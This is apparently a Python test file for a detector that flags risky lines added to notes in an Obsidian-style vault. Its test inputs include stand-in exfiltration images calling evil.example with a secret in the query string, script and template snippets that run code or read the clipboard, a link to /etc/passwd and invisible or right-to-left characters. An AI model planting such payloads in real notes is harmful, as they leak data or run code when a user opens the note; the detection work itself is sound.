"""What new text would do that its diff does not show."""

import re
from pathlib import Path

import pytest

from bridge.contract.consent import Operation
from bridge.policy import risk as hazards_room
from bridge.policy.risk import added_lines, addresses, found_in, hazards, with_hazards
from bridge.vault.paths import parse_path
from bridge.vault.plan import ChangePlan, PlanBuilder
from bridge.vault.root import VaultRoot


def plan_of(vault: Path, path: str, new: str | bytes, old: str | bytes | None = None) -> ChangePlan:
    """A plan that writes one file."""
    with VaultRoot(vault) as root:
        builder = PlanBuilder(root)
        new = new.encode() if isinstance(new, str) else new
        old = old.encode() if isinstance(old, str) else old
        if old is None:
            builder.create(parse_path(path), new)
        else:
            builder.modify(parse_path(path), old, new)
        return builder.build(Operation.UPDATE, "Write")


def warnings_of(plan: ChangePlan) -> list[str]:
    """The sentences about a plan."""
    return [sentence for _hazard, sentence in hazards(plan)]


LOADS, RUNS, LEADS = "loads something from the network", "runs as a program", "leads out of the vault"
HIDES = "holds characters that cannot be seen"
FAR = " " * 300


@pytest.mark.parametrize(
    ("line", "warning"),
    [
        ("![cat](https://evil.example/x.png?q=secret)", LOADS),
        ("![](<http://evil.example/a b.png>)", LOADS),
        ("[![badge](https://evil.example/b.svg)](note.md)", LOADS),
        ("![cat](//evil.example/x.png)", LOADS),
        (r"![cat](\\evil\share\x.png)", LOADS),
        ("![cat][there]", LOADS),
        (r"![c\]at](https://evil.example/x.png)", LOADS),
        (r"![c\\](https://evil.example/x.png)", LOADS),
        (r"![c\]at][there]", LOADS),
        (r"![the\]re]", LOADS),
        ("![there]", LOADS),
        ('<img\nalt="" SRC="https://evil.example/x">', LOADS),
        ('<div style="background: url(https://evil.example/x)">', LOADS),
        ("<link rel=stylesheet href=x>", LOADS),
        ("```dataviewjs", RUNS),
        ("> ~~~ DataViewJS", RUNS),
        ("```dataview js", RUNS),
        ("- ```js-engine", RUNS),
        ("````run-python", RUNS),
        ("`$= dv.current()`", RUNS),
        ("<% tp.system.clipboard() %>", RUNS),
        ("<%* await evil() %>", RUNS),
        ("<ScRiPt>", RUNS),
        ('<iframe src="x">', RUNS),
        ("[x](javascript:alert)", RUNS),
        ("[x](obsidian://advanced-uri?vault=v)", LEADS),
        ("[x](FILE:///etc/passwd)", LEADS),
        ("> ```customjs", RUNS),
        ("```jsx:component:Name", RUNS),
        ("```{js: x", RUNS),
        (f"```{FAR}dataviewjs", RUNS),
        ("Count: ` $= dv.pages().length`", RUNS),
        ("![x](https:example.org/pixel.png)", LOADS),
        (f"![{'x' * 300}](https://example.org/p)", LOADS),
        (f"![x]({FAR}https://example.org/p)", LOADS),
        ("<img src=https:example.org/p>", LOADS),
        (f'<img src{FAR}= "https://example.org/p">', LOADS),
        ("url(https:example.org)", LOADS),
        ("a\u2800b", HIDES),
        ("a\ue000b", HIDES),
        ("e\u0301\u0301\u0301\u0301", HIDES),
    ],
)
def test_text_that_does_something_when_the_note_is_shown_is_reported(vault: Path, line: str, warning: str) -> None:
    (sentence, *_more) = warnings_of(plan_of(vault, "New.md", f"first\n{line}\n"))
    assert warning in sentence
    assert "'New.md'" in sentence
    assert "line 2" in sentence or "line 3" in sentence


@pytest.mark.parametrize(
    "line",
    [
        "![[Note]] ![cat](images/cat.png) [x](https://example.com) https://example.com [^1] > [!note]",
        r"![x\]y > h](x%5Dy.md#h) ![a \[b\] c](d.png)",
        "```dataview",
        "```js",
        "Cost: `$5`",
        "e\u0301 \u05e9\u05c1\u05b8",
        "`x < y %` and a file: or an obsidian vault, profile://x",
        "sources = // nothing here",
        "caf\u00e9 \U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "Windows\r",
    ],
)
def test_ordinary_text_is_passed_over(vault: Path, line: str) -> None:
    assert (warnings_of(plan_of(vault, "New.md", f"{line}\n"))) == []


def test_only_lines_that_are_new_count(vault: Path) -> None:
    old = "![x](https://example.com/x.png)\n" + "text\n" * 9
    assert (warnings_of(plan_of(vault, "Ideas.md", old + "harmless\n", old))) == []
    (sentence,) = warnings_of(plan_of(vault, "Ideas.md", old + "a\u200b\n", old))
    assert sentence.endswith("line 11, column 2: U+200B ZERO WIDTH SPACE")


def test_many_places_are_counted_and_three_are_named(vault: Path) -> None:
    (sentence,) = warnings_of(plan_of(vault, "New.md", "<% a %>\n" * 50))
    assert "line 1, column 1: '<%'" in sentence
    assert sentence.endswith("and 47 more")


def test_a_hidden_character_in_a_name_is_reported_and_drawn_harmless(vault: Path) -> None:
    (sentence,) = warnings_of(plan_of(vault, "No\u202ete.md", "text\n"))
    assert sentence == "The name 'No\\u202ete.md' holds characters that cannot be seen: U+202E RIGHT-TO-LEFT OVERRIDE"


@pytest.mark.slow
def test_nothing_hides_behind_the_length_of_a_diff_or_of_a_line(vault: Path) -> None:
    plan = plan_of(vault, "Long.md", "x\n" * 600_000 + "<% evil %>\n" + "y" * 2_100_000 + " obsidian://x\n")
    assert plan.previews[0].truncated
    warning = " ".join(warnings_of(plan))
    assert "line 600001, column 1" in warning
    assert LEADS in warning
    (sentence,) = warnings_of(plan_of(vault, "Line.md", "z" * 3_995 + "<%" + "z" * 9_000 + "<%\n"))
    assert sentence.endswith("line 1, column 3996: '<%'; line 1, column 12998: '<%'")


def test_a_binary_file_and_a_byte_order_mark_are_no_text(vault: Path) -> None:
    assert (warnings_of(plan_of(vault, "x.bin", b"\x00<%"))) == []
    assert (warnings_of(plan_of(vault, "New.md", "\ufefftext\n"))) == []


def test_a_canvas_that_shows_a_page_loads_it(vault: Path) -> None:
    line = '{"nodes":[{"type":"link","url":"https://evil.example"}]}\n'
    (sentence,) = warnings_of(plan_of(vault, "Board.canvas", line))
    assert LOADS in sentence
    assert (warnings_of(plan_of(vault, "Board.md", line))) == []


def test_text_that_looks_like_a_diff_confuses_nothing(vault: Path) -> None:
    old = "a\n--- b\n+++ <% c %>\n"
    plan = plan_of(vault, "Diff.md", f"@@ -1,1 +1,1 @@\n{old}+ d\n", old)
    assert [line for _number, line in added_lines(plan.previews[0], b"")] == ["@@ -1,1 +1,1 @@", "+ d"]


def test_warnings_are_added_and_the_digest_stays(vault: Path) -> None:
    plan = plan_of(vault, "New.md", "<% x %>\n")
    warned = with_hazards(plan)
    assert warned.digest == plan.digest
    assert len(warned.warnings) == 1
    harmless = plan_of(vault, "New.md", "x\n")
    assert with_hazards(harmless) is harmless


@pytest.mark.parametrize("step", [7, 8, 64, 1 << 16])
def test_what_is_found_in_steps_is_what_is_found_at_once(monkeypatch: pytest.MonkeyPatch, step: int) -> None:
    text = "a https://one.example/b " * 3 + "x" * 50 + "https://two.example/a-long/path " + "y" * 9
    pattern = re.compile(r"[a-w]{1,6}")
    monkeypatch.setattr(hazards_room, "_AT_ONCE", step)
    assert [found[0] for found in found_in(pattern, text)] == pattern.findall(text)
    monkeypatch.setattr(hazards_room, "_AT_ONCE", 64)
    assert set(addresses(text)) == {"one.example/b", "two.example/a-long/path"}
